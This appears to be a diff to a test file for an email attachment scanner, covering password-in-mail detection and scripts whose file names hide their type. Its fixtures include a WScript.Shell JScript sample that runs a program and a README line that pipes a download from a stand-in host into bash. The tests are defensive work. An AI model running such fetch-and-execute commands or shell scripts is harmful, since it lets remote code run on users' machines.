@@ -105,7 +105,8 @@ async def test_the_evidence_names_where_the_password_stands(text: bytes, subject
 async def test_only_the_first_texts_are_searched(before: int, told: bool) -> None:
     """The subject and the texts that a reader sees first."""
     text = TEXT.replace(b"hello", b"PIN 4711")
-    raw = multipart(*[TEXT] * before, text, named(b"a.zip", locked(archive("pay.pdf"))))
+    others = [TEXT.replace(b"hello", b"hello %d" % number) for number in range(before)]
+    raw = multipart(*others, text, named(b"a.zip", locked(archive("pay.pdf"))))
     assert ("attachment.password_in_mail" in codes(await check(raw))) is told
 
 
@@ -177,3 +178,24 @@ async def test_parts_are_looked_at_in_the_order_of_the_message() -> None:
         ("attachment.executable", "1.2"),
         ("attachment.script", "1.3"),
     ]
+
+
+JSCRIPT = b'var sh = new ActiveXObject("WScript.Shell");\r\nsh.Run("notepad.exe");\r\n'
+README = b"Run this in a shell:\r\n\r\n    curl http://x.test | bash\r\n\r\nand then read on, there is more.\r\n"
+
+
+@pytest.mark.parametrize("name", [b"invoice", b"invoice.pdf", b"invoice.dat", b"invoice.txt"])
+async def test_a_script_whose_name_is_lost(name: bytes) -> None:
+    """Its content shows what it is, in an archive too; a text that quotes a command is none."""
+    (finding,) = await check(multipart(TEXT, named(name, JSCRIPT)))
+    assert (finding.code, finding.evidence[0].what) == ("attachment.script", "true type")
+    assert codes(await check(multipart(TEXT, named(b"a.zip", archive(name.decode(), content=JSCRIPT))))) == [
+        "attachment.script"
+    ]
+    assert await check(multipart(TEXT, named(name, README))) == []
+
+
+async def test_the_messages_own_text_is_no_script() -> None:
+    """Whatever it quotes: nobody opens a body as a file."""
+    assert await check(multipart(b"Content-Type: text/plain\r\n\r\n" + JSCRIPT)) == []
+    assert await check(multipart(TEXT, named(b"a.c", b"int main(void) { return 0; }\r\n"))) == []
